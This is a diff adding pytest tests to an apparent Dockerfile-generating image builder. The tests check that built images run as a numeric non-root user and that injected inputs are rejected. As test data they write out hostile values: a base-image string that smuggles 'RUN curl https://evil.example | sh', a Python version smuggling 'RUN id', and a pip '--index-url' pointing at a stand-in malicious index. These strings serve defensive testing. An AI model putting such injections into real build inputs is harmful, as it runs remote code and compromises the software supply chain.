@@ -114,6 +114,23 @@ def test_base_image_precedence_and_extra_files(tmp_path):
         build_context(plain, tmp_path / "x", extra_files={"../escape": b""})
 
 
+def test_a_built_image_ends_as_its_non_root_user_and_refuses_injected_inputs():
+    """Issue 45 finding 6: the last instruction that sets the user is a numeric, non-root USER, after every RUN (so
+    Kubernetes' runAsNonRoot can check it); finding 9: what goes into the Dockerfile and requirements.txt is one
+    image reference, one Python version, one requirement a line."""
+    text = builders.dockerfile(ImageSpec.create(["numpy"], family="gpu"))
+    lines = text.splitlines()
+    [user] = [i for i, line in enumerate(lines) if line.startswith("USER ")]
+    assert lines[user] == "USER 10001:10001" and not any(line.startswith("RUN") for line in lines[user:])
+    assert "ENV HOME=/home/kinetic" in lines and "chown 10001:10001 /home/kinetic /workspace" in text
+    with pytest.raises(ValueError, match="base_image=.* is not an image reference"):
+        builders.dockerfile(ImageSpec(base_image="python:3.12-slim\nRUN curl https://evil.example | sh"))
+    with pytest.raises(ValueError, match="python_version"):
+        builders.dockerfile(ImageSpec(python="3.12-slim\nRUN id"))
+    with pytest.raises(ValueError, match="pip option"):
+        builders.requirements_lines(ImageSpec(requirements=("--index-url https://evil.example/simple",)))
+
+
 def test_image_names_and_settings():
     spec = ImageSpec.create(python="3.11")
     assert image_name("us-docker.pkg.dev/p/r/", spec) == f"us-docker.pkg.dev/p/r/kinetic:{spec.tag}"
@@ -205,6 +222,13 @@ def test_docker_build_push_run_then_skip(docker_engine, local_registry, python_b
         check=False,
     )
     assert run.returncode == 0, run.stdout + run.stderr
+    # As a pod runs it (the image's own user, never root): its HOME (caches) and the workspace are its own.
+    own = docker_engine.run(
+        "run", "--rm", "--network", "none", "--entrypoint", "sh", image,
+        "-c", 'id -u && id -g && touch "$HOME/.probe" /workspace/.probe && echo "$HOME"',
+        check=False,
+    )  # fmt: skip
+    assert own.returncode == 0 and own.stdout.split() == ["10001", "10001", "/home/kinetic"], own.stdout + own.stderr
     outcome = json.loads(store.get_bytes("runs/r1/outcome.json"))
     assert outcome["status"] == "completed", outcome
     assert cloudpickle.loads(store.get_bytes("runs/r1/result.pkl")) == {
